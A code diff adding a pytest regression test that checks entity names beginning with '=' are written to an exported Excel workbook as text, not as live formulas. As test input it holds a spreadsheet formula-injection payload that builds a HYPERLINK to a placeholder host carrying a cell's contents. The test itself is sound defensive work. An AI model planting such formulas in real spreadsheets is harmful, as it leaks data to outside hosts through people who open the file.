@@ -638,3 +638,31 @@ def test_a_cleared_publish_publishes_only_the_build_its_gate_validated(demo, tmp
     with pytest.raises(builds.StaleBuild, match="files were loaded since its build"):
         orchestration.publish(work.paths, "later", 2024, night, None)
     assert _latest(work) == published
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(demo, tmp_path):
+    """Entity names come from providers' files. openpyxl writes a string that starts with
+    "=" as a formula, so a business named =HYPERLINK(...) became a live link (or worse) in
+    the evaluators' workbook. It is written as text; the published CSV keeps it as delivered."""
+    import shutil
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from paritrana.export import write_workbook
+
+    folder = tmp_path / "publication"
+    shutil.copytree(_latest(demo), folder)
+    ranking = folder / "rankings_umk.csv"
+    with ranking.open(newline="") as f:
+        rows = list(csv.reader(f))
+    name = rows[0].index("entity_name")
+    formula = '=HYPERLINK("http://example.invalid/?"&A2,"open me")'
+    rows[1][name], rows[2][name] = formula, "=1+1"
+    with ranking.open("w", newline="") as f:
+        csv.writer(f).writerows(rows)
+    write_workbook(folder, "umk", tmp_path / "umk.xlsx")
+    sheet = load_workbook(tmp_path / "umk.xlsx")["umk"]
+    cells = [sheet.cell(r, name + 1) for r in (2, 3)]
+    assert [(c.value, c.data_type) for c in cells] == [(formula, "s"), ("=1+1", "s")]
+    assert "<f>" not in zipfile.ZipFile(tmp_path / "umk.xlsx").read("xl/worksheets/sheet1.xml").decode()
